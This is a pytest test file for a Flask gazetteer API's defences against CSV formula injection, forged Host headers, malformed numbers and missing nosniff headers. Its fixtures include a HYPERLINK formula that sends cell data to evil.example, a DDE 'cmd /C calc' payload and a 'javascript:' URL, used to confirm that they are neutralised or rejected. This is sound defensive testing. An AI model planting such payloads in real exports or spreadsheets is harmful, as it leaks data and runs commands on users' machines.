"""What a hostile client or hostile data can do through HTTP (issue 19, items 8, 9 and 11): formula cells
in the CSV export, a forged Host header in the LPF @id and redirects, numbers that are not plain ASCII
decimals, and the nosniff header on every answer."""

from __future__ import annotations

import csv
import io
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from flask.testing import FlaskClient

from api import create_app
from tests.conftest import DATA, SEEDS

# Cells a spreadsheet would run as formulas, put into a copy of data/ (a curator's slip or a hostile
# contribution); the Falkland Islands have negative coordinates, which must stay numbers.
FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Falklands")'
FORMULA_ROWS = [
    f"falkland-islands\t{FORMULA_NAME}\ten\tvariant\t\t\t\tlow\twikidata:Q9648\t+SUM(1,1)",
    "falkland-islands\t@SUM(1+1)\ten\tvariant\t\t-500\t\tlow\twikidata:Q9648\t-2+3 cmd|' /C calc'!A0",
]


def formula_data(root: Path) -> Path:
    """A copy of data/ (and seeds/) under ``root`` with the FORMULA_ROWS and a label starting with '-'."""
    data = root / "data"
    shutil.copytree(DATA, data)
    shutil.copytree(SEEDS, root / "seeds")
    places = data / "places" / "americas-europe-west.tsv"
    text = places.read_text(encoding="utf-8")
    assert "\tFalkland Islands / Islas Malvinas\t" in text
    places.write_text(text.replace("\tFalkland Islands / Islas Malvinas\t", "\t-Falklands-\t"), encoding="utf-8")
    with (data / "names" / "americas-europe-west.tsv").open("a", encoding="utf-8") as names:
        names.write("".join(row + "\n" for row in FORMULA_ROWS))
    return data


def falklands_rows(table: str) -> list[dict[str, str]]:
    return [r for r in csv.DictReader(io.StringIO(table)) if r["place_id"] == "falkland-islands"]


@pytest.fixture(scope="module")
def small(tmp_path_factory: pytest.TempPathFactory) -> dict[str, object]:
    """The app's configuration: a database of the curated layer alone, from the copy with the formulas."""
    root = tmp_path_factory.mktemp("formulas")
    return {"DATABASE_URL": f"sqlite:///{root / 'formulas.sqlite3'}", "DATA_DIR": str(formula_data(root)),
            "BASE_LAYER": "none", "TESTING": True}


@pytest.fixture(scope="module")
def client(small: dict[str, object]) -> Iterator[FlaskClient]:
    app = create_app(small)
    yield app.test_client()
    app.extensions["gazetteer"].close()


def app_with(small: dict[str, object], **config: str) -> FlaskClient:
    return create_app({**small, **config}).test_client()


# -- item 8: CSV injection --------------------------------------------------------------------------
def test_csv_export_neutralises_formula_cells_and_keeps_numbers(client: FlaskClient) -> None:
    response = client.get("/v1/export/csv?kind=islands")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = falklands_rows(response.get_data(as_text=True))
    by_name = {r["name"]: r for r in rows}
    formula = by_name["'" + FORMULA_NAME]  # shown as text by a spreadsheet, the whole formula still legible
    assert formula["note"] == "'+SUM(1,1)"
    at = by_name["'@SUM(1+1)"]
    assert at["note"] == "'-2+3 cmd|' /C calc'!A0" and at["valid_from"] == "-500"  # a negative year stays a number
    assert all(r["place_label"] == "'-Falklands-" for r in rows)
    assert all(float(r["lat"]) < 0 and float(r["lon"]) < 0 and not r["lon"].startswith("'") for r in rows)
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for key, cell in r.items()
               if key not in ("lat", "lon", "valid_from", "valid_to"))
    from gazetteer.export import csv_text  # (a tab or CR cannot start a cell of data/: its cells are stripped)

    assert csv_text("\tx") == "'\tx" and csv_text("\r=1") == "'\r=1" and csv_text("Baku") == "Baku"


# -- item 9: the Host header -------------------------------------------------------------------------
@pytest.mark.parametrize("host", ["evil.example", "evil.example:8000", "localhost.evil.example", "127.0.0.2"])
def test_an_unlisted_host_gets_400_problem_json(client: FlaskClient, host: str) -> None:
    for path in ("/v1/export/lpf?country=AZ", "/v1/status", "/no/such/route", "/static/map.js", "/"):
        response = client.get(path, headers={"Host": host})
        assert b"evil.example/v1/places" not in response.get_data()
        assert response.status_code == 400, (path, response.status_code)
        assert response.mimetype == "application/problem+json"
        assert response.get_json()["status"] == 400 and "host" in response.get_json()["detail"]


@pytest.mark.parametrize("host", ["localhost", "localhost:8000", "LocalHost", "127.0.0.1:5000", "[::1]:8000"])
def test_loopback_hosts_are_answered_by_default(client: FlaskClient, host: str) -> None:
    response = client.get("/v1/status", headers={"Host": host})
    assert response.status_code == 200, response.get_json()


def test_the_public_url_makes_the_lpf_ids_and_its_host_is_allowed(small: dict[str, object]) -> None:
    public = app_with(small, PUBLIC_URL="https://gazetteer.example.org/names")
    for host in ("gazetteer.example.org", "localhost"):
        body = public.get("/v1/export/lpf?country=AZ&kind=settlement", headers={"Host": host}).get_json()
        ids = {f["@id"] for f in body["features"]}
        assert "https://gazetteer.example.org/names/v1/places/stepanakert" in ids, host
    assert public.get("/v1/status", headers={"Host": "evil.example"}).status_code == 400


def test_allowed_hosts_replace_the_default_and_star_allows_any(small: dict[str, object]) -> None:
    listed = app_with(small, ALLOWED_HOSTS="gaz.example.net, .example.org")
    assert listed.get("/v1/status", headers={"Host": "gaz.example.net:8443"}).status_code == 200
    assert listed.get("/v1/status", headers={"Host": "a.example.org"}).status_code == 200
    assert listed.get("/v1/status", headers={"Host": "localhost"}).status_code == 400
    anything = app_with(small, ALLOWED_HOSTS="*")
    assert anything.get("/v1/status", headers={"Host": "evil.example"}).status_code == 200


def test_allowed_hosts_from_the_environment(small: dict[str, object], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GAZETTEER_ALLOWED_HOSTS", "gaz.example.net")
    monkeypatch.setenv("GAZETTEER_PUBLIC_URL", "https://public.example.org/")
    served = app_with(small)
    assert served.get("/v1/status", headers={"Host": "gaz.example.net"}).status_code == 200
    assert served.get("/v1/status", headers={"Host": "public.example.org"}).status_code == 200
    assert served.get("/v1/status", headers={"Host": "localhost"}).status_code == 400
    monkeypatch.setenv("GAZETTEER_PUBLIC_URL", "javascript:alert(1)")
    with pytest.raises(ValueError, match="public URL"):
        app_with(small)


def test_redirects_do_not_carry_the_request_host(client: FlaskClient, small: dict[str, object]) -> None:
    response = client.get("/v1//status", headers={"Host": "127.0.0.1:8000"})  # Werkzeug merges the slashes
    assert response.status_code == 308 and response.headers["Location"] == "/v1/status"
    public = app_with(small, PUBLIC_URL="https://gazetteer.example.org/names/")
    response = public.get("/v1//lookup?q=Baku")
    assert response.headers["Location"] == "https://gazetteer.example.org/names/v1/lookup?q=Baku"


# -- item 11: nosniff and numbers ----------------------------------------------------------------
@pytest.mark.parametrize("path", ["/v1/status", "/v1/lookup?q=Baku", "/v1/lookup", "/static/map.js",
                                  "/static/app.css", "/openapi.json", "/healthz", "/no/such/route",
                                  "/v1/export/csv?country=AZ", "/"])
def test_every_answer_says_nosniff(client: FlaskClient, path: str) -> None:
    response = client.get(path)
    response.get_data()  # (the export streams)
    assert response.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize("path", [
    "/v1/lookup?q=Baku&limit=\u0663",  # ARABIC-INDIC DIGIT THREE
    "/v1/lookup?q=Baku&limit=1_0",
    "/v1/lookup?q=Baku&limit=%EF%BC%95",  # FULLWIDTH DIGIT FIVE
    "/v1/lookup?q=Baku&at=1_990",
    "/v1/lookup?q=Baku&limit=%205",
    "/v1/reverse?lat=40&lon=4_6",
    "/v1/reverse?lat=40&lon=46&radius_km=inf",
    "/v1/reverse?lat=40&lon=46&radius_km=1e999",
    "/v1/reverse?lat=Infinity&lon=46",
    "/v1/contains?lat=%D9%A3%D9%A9&lon=46",
    "/reverse?lat=NaN&lon=46",
    "/search?q=Baku&viewbox=0,0,1,nan",
    "/search?q=Baku&viewbox=nan,0,1,1",
    "/search?q=Baku&viewbox=0,0,1,inf",
    "/search?q=Baku&viewbox=1_0,0,20,10",
    "/search?q=Baku&viewbox=10,0,20,\u0661",
    "/search?q=Baku&limit=\u0663",
    "/v1/export/csv?bbox=30,50,31,nan",
    "/v1/export/geojson?bbox=30,50,31,5_1",
    "/v1/export/lpf?bbox=30,50,31,\u0665\u0661",
])
def test_numbers_must_be_finite_ascii_decimals(client: FlaskClient, path: str) -> None:
    response = client.get(path)
    assert response.status_code == 400, (path, response.get_data(as_text=True)[:200])  # (reads what streams)
    assert response.mimetype == "application/problem+json"


@pytest.mark.parametrize("path", ["/v1/lookup?q=Baku&limit=%2B3", "/v1/lookup?q=Baku&at=-500",
                                  "/v1/reverse?lat=-33.9&lon=18.4&radius_km=1e3", "/v1/reverse?lat=.5&lon=4.",
                                  "/search?q=Baku&viewbox=40,%2035,55,45", "/v1/export/csv?bbox=30,%2050,31,51"])
def test_plain_numbers_are_still_accepted(client: FlaskClient, path: str) -> None:
    response = client.get(path)
    response.get_data()
    assert response.status_code == 200, path
